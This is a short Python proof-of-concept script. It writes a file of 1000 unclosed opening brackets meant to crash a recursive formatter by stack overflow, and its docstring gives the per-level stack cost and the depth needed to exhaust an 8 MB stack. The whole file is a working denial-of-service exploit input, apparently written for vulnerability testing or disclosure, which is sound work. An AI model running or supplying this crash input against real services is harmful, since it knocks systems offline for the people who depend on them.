"""Writes the PoC: 1000 nested arrays (opened only). The formatter recurses once per level,
and each call holds some 12 KB of buffers on the stack (a key and a string), so about 700
levels exhaust an 8 MB stack."""

import sys

data = b"[" * 1000  # the closing brackets are never reached
with open(sys.argv[1] if len(sys.argv) > 1 else "poc", "wb") as f:
    f.write(data)
